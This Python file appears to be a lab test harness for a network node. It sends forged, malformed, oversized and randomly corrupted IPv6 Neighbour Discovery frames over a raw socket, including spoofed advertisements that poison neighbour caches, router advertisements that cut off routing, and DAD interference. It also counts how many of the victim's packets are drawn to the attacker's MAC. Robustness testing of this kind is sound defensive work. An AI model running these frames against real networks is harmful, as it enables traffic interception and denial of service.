# SPDX-License-Identifier: ISC
"""Frames of neighbour discovery that nobody should send: forged, malformed so that a parser may loop, and oversized.

Run on a client as `python tests/lab/ndp_attacks.py DEVICE KIND SECONDS JSON`: sends all frames of a kind, again and
again, for so long, and prints how many, and how many packets for the victim's address came to our MAC. JSON names who
is there: {"node_mac", "node", "victim_mac", "victim", "own_mac", "prefix"}.
"""

import contextlib
import json
import random
import socket
import sys
import time

from scapy.layers.inet6 import (
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_RS,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    fragment6,
)
from scapy.layers.l2 import Ether
from scapy.packet import Raw

ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
FRAME_BYTES = 1514
ETH_P_IPV6 = 0x86DD
PAUSE_S = 0.0005  # between two frames: the attacker is one client of a radio


def made_up(world: dict, number: int) -> tuple[str, str]:
    """A MAC and an address in the clients' prefix that are nobody's."""
    mac = (
        f"02:bb:{number >> 24 & 255:02x}:{number >> 16 & 255:02x}:{number >> 8 & 255:02x}:{number & 255:02x}"
    )
    return mac, f"{world['prefix']}{number >> 16 & 0xFFFF:x}:{number & 0xFFFF:x}:bad:1"


def to_node(world: dict, source: str) -> Ether:
    return Ether(src=source, dst=world["node_mac"])


def forged(world: dict) -> list:
    """The victim's addresses and MAC, the node's own, a prefix of somebody else, and who tries every address (DAD)."""
    own, victim, node = world["own_mac"], world["victim"], world["node"]
    answer = ICMPv6ND_NA(tgt=victim, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own)
    frames = [
        Ether(src=own, dst=ALL_NODES_MAC) / IPv6(src=victim, dst=ALL_NODES, hlim=255) / answer,
        to_node(world, own) / IPv6(src=victim, dst=node, hlim=255) / answer,
        to_node(world, world["victim_mac"]) / IPv6(src=victim, dst=node, hlim=255) / answer,
        to_node(world, own) / IPv6(src=node, dst=node, hlim=255) / ICMPv6ND_NS(tgt=node),
        to_node(world, world["node_mac"]) / IPv6(src=node, dst=node, hlim=255) / ICMPv6ND_NS(tgt=victim),
        to_node(world, own) / IPv6(src="2001:db8::1", dst=node, hlim=255) / ICMPv6ND_NS(tgt=node),
        to_node(world, own) / IPv6(src=victim, dst=node, hlim=64) / answer,  # it came through a router
        # to the node alone: whoever hears it has no router any more, whatever the node does
        to_node(world, own) / IPv6(src=node, dst=node, hlim=255) / ICMPv6ND_RA(routerlifetime=0),
        Ether(src="33:33:00:00:00:07", dst=world["node_mac"])
        / IPv6(src=victim, dst=node)
        / ICMPv6ND_NS(tgt=node),
        Ether(src="00:00:00:00:00:00", dst=world["node_mac"])
        / IPv6(src=victim, dst=node)
        / ICMPv6ND_NS(tgt=node),
    ]
    for target in (victim, node, *(made_up(world, number)[1] for number in range(200))):
        tried = ICMPv6ND_NS(tgt=target)
        frames.append(Ether(src=own, dst=ALL_NODES_MAC) / IPv6(src="::", dst=ALL_NODES, hlim=255) / tried)
    return frames


def looping(world: dict) -> list:
    """Options of no length, headers that name themselves as the next, and everything cut at each byte."""
    own, victim, node = world["own_mac"], world["victim"], world["node"]
    start = to_node(world, own) / IPv6(src=victim, dst=node, hlim=255)
    frames = [
        start / ICMPv6ND_NS(tgt=node) / Raw(bytes((kind, 0)) * 40) for kind in (0, 1, 2, 5, 14, 253, 255)
    ]
    frames += [
        start / ICMPv6ND_NA(tgt=victim) / Raw(bytes((2, length)) + bytes(14)) for length in (0, 1, 3, 255)
    ]
    chain = start
    for _ in range(60):
        chain = chain / IPv6ExtHdrDestOpt()
    frames.append(chain / ICMPv6ND_NS(tgt=node))
    frames.append(start / IPv6ExtHdrHopByHop() / IPv6ExtHdrHopByHop() / ICMPv6ND_NS(tgt=node))
    frames.append(start / IPv6ExtHdrRouting(type=0, addresses=[node, victim, node]) / ICMPv6ND_NS(tgt=node))
    frames.append(start / IPv6ExtHdrFragment(offset=0, m=1, id=7) / ICMPv6ND_NS(tgt=node))
    whole = bytes(start / ICMPv6ND_NS(tgt=node) / ICMPv6NDOptSrcLLAddr(lladdr=own))
    frames += [whole[:end] for end in range(14, len(whole))]
    frames += [whole[:18] + length.to_bytes(2, "big") + whole[20:] for length in (0, 1, 24, 0x7FFF, 0xFFFF)]
    return frames


def oversized(world: dict) -> list:
    """As many options as fit, of the largest lengths, and solicitations in fragments of 60,000 bytes together."""
    own, victim, node = world["own_mac"], world["victim"], world["node"]
    start = to_node(world, own) / IPv6(src=victim, dst=node, hlim=255)
    option = bytes(ICMPv6NDOptSrcLLAddr(lladdr=own))
    frames = [start / ICMPv6ND_NS(tgt=node) / Raw(option * 178)]
    frames += [
        start / ICMPv6ND_NA(tgt=victim) / Raw(bytes((kind, 178)) + bytes(1422)) for kind in range(0, 256, 5)
    ]
    whole = (
        IPv6(src=victim, dst=node, hlim=255)
        / IPv6ExtHdrFragment()
        / ICMPv6ND_NS(tgt=node)
        / Raw(option * 7000)
    )
    frames += [to_node(world, own) / each for each in fragment6(whole, 1400)]
    return frames


def many(world: dict) -> list:
    """Solicitations and advertisements in the names of thousands, each once."""
    frames = []
    for number in range(4000):
        mac, address = made_up(world, number)
        asks = (
            to_node(world, mac)
            / IPv6(src=address, dst=world["node"], hlim=255)
            / ICMPv6ND_NS(tgt=world["node"])
        )
        answers = (
            to_node(world, mac) / IPv6(src=address, dst=world["node"], hlim=255) / ICMPv6ND_NA(tgt=address)
        )
        frames += [bytes(asks), bytes(answers)]
    return frames


def noise(world: dict) -> list:
    """Solicitations of which some bytes are others."""
    chance = random.Random(4)
    start = to_node(world, world["own_mac"]) / IPv6(src=world["victim"], dst=world["node"], hlim=255)
    whole = bytes(start / ICMPv6ND_NS(tgt=world["node"]) / ICMPv6NDOptSrcLLAddr(lladdr=world["own_mac"]))
    frames = []
    for _ in range(2000):
        changed = bytearray(whole)
        for _ in range(chance.randint(1, 6)):
            changed[chance.randrange(12, len(changed))] = chance.randrange(256)
        frames.append(bytes(changed))
    return frames


def drawing(world: dict) -> list:
    """Every message by which a kernel learns a neighbour, for the victim's address and the attacker's MAC."""
    own, victim, node = world["own_mac"], world["victim"], world["node"]
    start = to_node(world, own) / IPv6(src=victim, dst=node, hlim=255)
    target, source = ICMPv6NDOptDstLLAddr(lladdr=own), ICMPv6NDOptSrcLLAddr(lladdr=own)
    answers = [ICMPv6ND_NA(tgt=victim, R=0, S=asked, O=1) / target for asked in (0, 1)]
    return [
        Ether(src=own, dst=ALL_NODES_MAC) / IPv6(src=victim, dst=ALL_NODES, hlim=255) / answers[0],
        *(start / each for each in answers),
        start / ICMPv6ND_NS(tgt=node) / source,
        start / ICMPv6ND_RS() / source,
        start / IPv6ExtHdrDestOpt() / answers[0],
    ]


KINDS = {each.__name__: each for each in (forged, looping, oversized, many, noise)}

OTHERS = {"drawing": drawing}  # which harm nobody but the victim


def main(device: str, kind: str, seconds: str, words: str) -> int:
    world = json.loads(words)
    frames = [bytes(frame)[:FRAME_BYTES] for frame in (KINDS | OTHERS)[kind](world)]
    door = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    door.bind((device, 0))
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
    heard.bind((device, ETH_P_IPV6))
    heard.setblocking(False)
    end_s, count, drawn = time.monotonic() + float(seconds), 0, 0
    while time.monotonic() < end_s:
        door.send(frames[count % len(frames)].ljust(60, b"\0"))
        count += 1
        time.sleep(PAUSE_S)
        drawn += count_drawn(heard, world)
    print(count, drawn)
    return 0


def count_drawn(heard: socket.socket, world: dict) -> int:
    """How many packets for the victim have come to our MAC since the last time."""
    own = bytes.fromhex(world["own_mac"].replace(":", ""))
    victim, drawn = socket.inet_pton(socket.AF_INET6, world["victim"]), 0
    with contextlib.suppress(BlockingIOError):
        while True:
            frame = heard.recv(2048)
            drawn += frame[:6] == own and frame[38:54] == victim
    return drawn


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
